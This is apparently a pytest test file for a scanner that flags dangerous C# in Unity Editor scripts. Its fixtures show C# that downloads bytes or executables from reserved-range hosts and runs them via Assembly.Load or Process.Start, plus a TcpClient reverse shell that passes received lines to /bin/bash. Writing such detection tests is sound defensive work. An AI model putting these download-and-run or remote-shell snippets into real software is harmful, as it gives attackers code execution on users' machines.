"""C# read by the light reader: .NET's own download calls (``WebClient``, ``DownloadFile(url, path)``
saving to a path, ``HttpClient.GetByteArrayAsync``), loading downloaded bytes as code
(``Assembly.Load``, ``Assembly.LoadFrom``: the assembly's code then runs in the editor or app), a
``TcpClient`` connection in a file that starts a shell (a remote shell), and declarations written
with their type (``byte[] data = …``, ``List<string> xs = …``). Hosts are TEST-NET or reserved names."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "source",
    [
        # bytes downloaded straight into a typed array, then loaded as an assembly
        "using System.Net.Http;\nusing System.Reflection;\nclass Sync {\n"
        "  static readonly HttpClient web = new HttpClient();\n  async void Pull() {\n"
        '    byte[] blob = await web.GetByteArrayAsync("https://plugins.build-cache.example/p.bin");\n'
        "    Assembly.Load(blob).EntryPoint.Invoke(null, null);\n  }\n}\n",
        # saved to a temporary path by WebClient.DownloadFile, then loaded from that path
        "using System.Net;\nusing System.Reflection;\nclass Sync {\n  static void Pull() {\n"
        '    var where = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "helper-lib.dll");\n'
        '    new WebClient().DownloadFile("https://203.0.113.8/lib.dll", where);\n'
        '    Assembly.LoadFrom(where).GetType("H.Main").GetMethod("Go").Invoke(null, null);\n  }\n}\n',
        # an installer saved then started
        "using System.Net;\nusing System.Diagnostics;\nclass Sync {\n  static void Pull() {\n"
        '    using (var c = new WebClient()) c.DownloadFile("https://198.51.100.3/setup.exe", "setup-tool.exe");\n'
        '    Process.Start("setup-tool.exe");\n  }\n}\n',
    ],
)
def test_downloaded_code_loaded_or_started_is_an_error(tmp_path: Path, source: str) -> None:
    errors = scan_errors(tmp_path / "s", {"Editor/Sync.cs": source})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_a_tcp_client_read_into_a_shell_is_a_remote_shell(tmp_path: Path) -> None:
    source = (
        "using System.Net.Sockets;\nusing System.Diagnostics;\nusing System.IO;\nclass Link {\n  static void Go() {\n"
        '    var tcp = new TcpClient("192.0.2.77", 4444);\n    var rd = new StreamReader(tcp.GetStream());\n'
        "    string l;\n    while ((l = rd.ReadLine()) != null)\n"
        '      Process.Start(new ProcessStartInfo("/bin/bash", "-c " + l) { UseShellExecute = false });\n  }\n}\n'
    )
    errors = scan_errors(tmp_path / "s", {"Editor/Link.cs": source})
    assert any(rule == "REMOTE_SHELL" for rule, _, _ in errors)


def test_a_downloaded_asset_and_the_running_assembly_are_no_error(tmp_path: Path) -> None:
    source = (
        "using System.Net;\nusing System.IO;\nusing System.Reflection;\nclass Assets {\n  static void Pull() {\n"
        '    using (var wc = new WebClient()) wc.DownloadFile("https://assets.example.org/tex.zip", "tex.zip");\n'
        "    var me = Assembly.GetExecutingAssembly();\n"
        '    byte[] data = File.ReadAllBytes("tex.zip");\n'
        "    UnityEngine.Debug.Log(me.FullName + data.Length);\n  }\n}\n"
    )
    found = scan_findings(tmp_path / "s", {"Editor/Assets.cs": source})
    assert not [f for f in found if f.severity.value == "error"]
